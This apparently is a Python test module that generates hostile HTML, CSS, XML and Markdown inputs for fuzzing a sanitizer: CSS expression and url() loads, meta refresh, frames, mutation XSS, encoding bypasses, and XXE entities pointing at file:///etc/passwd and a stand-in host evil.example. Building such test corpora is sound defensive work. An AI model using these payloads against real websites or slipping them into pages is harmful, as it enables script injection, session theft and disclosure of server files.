"""Attacks on parsers: CSS, documents in documents, namespaces, mutation, encodings, Markdown."""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Iterator

from tests.hostile.words import REMOTE, RUN, SCHEMES, element, spellings


def styles() -> Iterator[str]:
    """CSS that runs or loads, as attribute, element and link, plain, escaped and broken by comments."""
    rules = [
        f"width:expression({RUN})", f"w\\69 dth:e\\78pression({RUN})", f"width:ex/**/pression({RUN})",
        f"background:url(javascript:{RUN})", f"background:url({REMOTE}.png)", f"background:u\\72l({REMOTE}.png)",
        f"background-image:image-set('{REMOTE}' 1x)", f"-moz-binding:url({REMOTE}#x)", f"behavior:url({REMOTE}.htc)",
        f"cursor:url({REMOTE}),auto", f"list-style:url('{REMOTE}')", f"content:url(data:text/html,{RUN})",
        f"@import '{REMOTE}.css';", f"@im\\port url({REMOTE}.css);",
        f"@font-face{{font-family:x;src:url({REMOTE})}}",
        f"a[href^='x']{{background:url({REMOTE})}}", f"filter:url({REMOTE}#f)", f"mask:url({REMOTE}#m)",
        f"border-image:-webkit-cross-fade(url({REMOTE}),url(y))", f"--x:url({REMOTE});background:var(--x)",
        "position:fixed;inset:0;opacity:0", f"<!-- @import '{REMOTE}' -->", f"}}*{{background:url({REMOTE})}}{{",
    ]  # fmt: skip
    for rule in rules:
        quoted = rule.replace('"', "&quot;")
        for tag in ("p", "div", "a", "b", "xss", "table"):
            yield f'<{tag} style="{quoted}">x</{tag}>'
        yield f"<style>{rule if '{' in rule or '@' in rule else f'*{{{rule}}}'}</style>"
        yield f"<STYLE type=text/css media=all>{rule}</STYLE >"
        yield f"<svg><style>{rule}</style></svg>"
        yield f"<style><!--</style><p style='{rule.replace(chr(39), '')}'>x</p>"
        yield f'<link rel=stylesheet href="data:text/css,{quoted}">'
        yield f"<noscript><style>{rule}</style></noscript>"
    for relation in ("stylesheet", "alternate stylesheet", "import", "prefetch", "preload", "dns-prefetch",
                     "preconnect", "modulepreload", "prerender", "icon", "manifest", "pingback"):  # fmt: skip
        yield f'<link rel="{relation}" href="{REMOTE}">'
        yield f"<LINK REL={relation.split()[0]} HREF=//evil.example/x>"


def documents() -> Iterator[str]:
    """What makes a document of its own or changes this one: base, meta, frames, forms, plug-ins."""
    for name in (
        "refresh",
        "Refresh",
        "set-cookie",
        "content-security-policy",
        "x-dns-prefetch-control",
        "&#114;efresh",
    ):
        for content in (
            f"0;url={REMOTE}",
            f"0;url=javascript:{RUN}",
            f"0; URL='data:text/html,{RUN}'",
            "default-src *",
        ):
            yield f'<meta http-equiv="{name}" content="{content}">'
    for name in (
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "portal",
        "fencedframe",
        "layer",
        "ilayer",
    ):
        for attribute in ("src", "data", "srcdoc", "href", "onload", "name"):
            yield element(name, f'{attribute}="{REMOTE}"')
            yield element(name, f"{attribute}='<script>{RUN}</script>'")
    for name in ("input", "button", "select", "textarea", "keygen", "output", "form", "label", "datalist", "isindex"):
        for kind in ("image", "submit", "password", "hidden", "file"):
            yield element(name, f'type={kind} formaction="javascript:{RUN}" src="{REMOTE}" name=x')
    for name in (
        "dialog",
        "details",
        "marquee",
        "menu",
        "popover",
        "template",
        "slot",
        "noscript",
        "noembed",
        "noframes",
    ):
        yield f"<{name} open popover ontoggle={RUN}><img src=x onerror={RUN}></{name}>"
        yield f"<{name}><p title='</{name}><img src=x onerror={RUN}>'>x</p></{name}>"


def namespaces() -> Iterator[str]:
    """XML in HTML: prefixed elements, entities, instructions, document types, behaviours of old browsers."""
    for prefix in ("x", "html", "svg", "xhtml", "o", "v", "t", "rdf"):
        for uri in ("http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg", "urn:schemas-microsoft-com:time", ""):
            yield f'<{prefix}:script xmlns:{prefix}="{uri}">{RUN}</{prefix}:script>'
            yield f'<{prefix}:img xmlns:{prefix}="{uri}" src="{REMOTE}" onerror="{RUN}"></{prefix}:img>'
            yield f'<xml:namespace prefix="{prefix}" ns="{uri}"/><{prefix}:set attributeName="innerHTML" to="{RUN}"/>'
    for root in ("x", "html", "svg"):
        for system in ("file:///etc/passwd", f"{REMOTE}.dtd", "data:,x"):
            yield f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{system}">]><{root}>&e;</{root}>'
            yield f'<!DOCTYPE {root} SYSTEM "{system}"><p>&e;</p>'
            yield f'<?xml-stylesheet type="text/xsl" href="{system}"?><p>x</p>'
            yield f'<?import namespace="t" implementation="{system}"><p>x</p>'
    for name in (
        "xlink:href",
        "xml:base",
        "xmlns",
        "xmlns:xlink",
        "epub:type",
        "ev:event",
        "on:click",
        "v-on:click",
        "@click",
    ):
        for tag in ("a", "p", "img", "svg"):
            yield element(tag, f'{name}="javascript:{RUN}"')
            yield element(tag, f'{name}="{REMOTE}" href="#x"')


def mutations(chance: random.Random) -> Iterator[str]:
    """Markup that one parser reads differently from the next, or from itself the second time."""
    raw = (
        "style",
        "title",
        "textarea",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "noscript",
        "script",
        "plaintext",
        "listing",
    )
    hosts = (
        "svg",
        "math",
        "table",
        "select",
        "p",
        "form",
        "template",
        "ul",
        "dl",
        "a",
        "button",
        "mtext",
        "desc",
        "option",
    )
    payloads = (f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<iframe src=javascript:{RUN}>")
    for host, inner, payload in itertools.product(hosts, raw, payloads):
        yield f'<{host}><{inner}><a title="</{inner}>{payload}"></a></{inner}></{host}>'
    for inner, payload in itertools.product(raw, payloads):
        yield f"<{inner}></{inner}>{payload}"
        yield f"<{inner}><!--</{inner}>{payload}-->"
        yield f"<form><math><mtext></form><form><mglyph><{inner}></math>{payload}</{inner}></form>"
        yield f"<svg></p><{inner}><a id='</{inner}>{payload}'></a></{inner}></svg>"
    for comment in (
        "<!-->",
        "<!--->",
        "<!--x--!>",
        "<!--x-- >",
        "<!x>",
        "<!",
        "<?x>",
        "</ x>",
        "</>",
        "<>",
        "<!-- -- -->",
        "<!--<!-->",
    ):
        for payload in payloads:
            yield f"{comment}{payload}"
            yield f"{comment}{payload}-->"
    pieces = ("<b>", "</b>", "<table>", "</table>", "<td>", "<select>", "</select>", "<svg>", "</svg>", "<math>",
              "</math>", "<!--", "-->", "<style>", "</style>", '"', "'", "`", ">", "<", "<a href=", "javascript:", "\0",
              "<p", "/>", "&lt;", "<![CDATA[", "]]>", "<title>", "</title>", f" onerror={RUN} ", "<img src=x ",
              "<mtext>", "<template>")  # fmt: skip
    for _ in range(160):
        yield "".join(chance.choices(pieces, k=chance.randint(3, 14)))


def encodings() -> Iterator[str]:
    """The same attack behind layers of encoding: what is text must stay text."""
    attacks = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f'<a href="javascript:{RUN}">x</a>')
    for attack in attacks:
        named = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield named
        yield named.replace("&", "&amp;")
        yield named.replace(";", "")
        yield "".join(f"&#{ord(letter)};" for letter in attack)
        yield "".join(f"&#x{ord(letter):X};" for letter in attack)
        yield "".join(f"&#{ord(letter) + 0x110000};" for letter in attack)
        yield "".join(f"%{ord(letter):02x}" for letter in attack)
        yield attack.replace("<", "+ADw-").replace(">", "+AD4-")
        yield attack.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
        yield attack.translate({ord("<"): "\u2039", ord(">"): "\u203a"})
        yield attack.replace("<", "\x1b$B<\x1b(B")
        yield attack.replace("<", "<\x00")
        yield attack.replace("s", "\u017f").replace("i", "\u0131")
        yield "\ufeff" + attack
        yield "\u202e" + attack + "\u202c"
        yield "\\x3c" + attack[1:]
        yield "\\u003c" + attack[1:]
        yield f"<p title='{named}'>x</p>"
        yield f"<pre>{named}</pre><code>{named}</code>"


def markdown() -> Iterator[str]:
    """Links and pictures as Markdown writes them; in a page of HTML they are text."""
    for spelling in [spelling for scheme in SCHEMES[:5] for spelling in spellings(scheme)]:
        target = f"{spelling}{RUN}"
        one_line = re.sub(r"\s", "", target)
        yield f"[x]({one_line})"
        yield f"[x](<{target}>)"
        yield f"![x]({one_line} 'title')"
        yield f"[x][r]\n\n[r]: {one_line}"
        yield f"<{one_line}>"
    for target in (REMOTE, "//evil.example/x", f"data:image/svg+xml,<svg/onload={RUN}>", "file:///etc/passwd"):
        yield f"![x]({target})"
        yield f"[![x]({target})]({target})"
        yield f"![x][r]\n\n[r]: {target} 'onerror={RUN}'"
        yield f'![x" onerror="{RUN}]({target})'
        yield f'[x]({target} "\\" onmouseover=\\"{RUN}")'
    for fence in ("```", "~~~"):
        yield f"{fence}html\n<script>{RUN}</script>\n{fence}"
        yield f'{fence}" onclick={RUN}\nx\n{fence}'
    yield f"`<script>{RUN}</script>`"
    yield f"\\<script>{RUN}</script>"
    yield f"x\n: <script>{RUN}</script>"
    yield f"[^1]\n\n[^1]: <img src=x onerror={RUN}>"
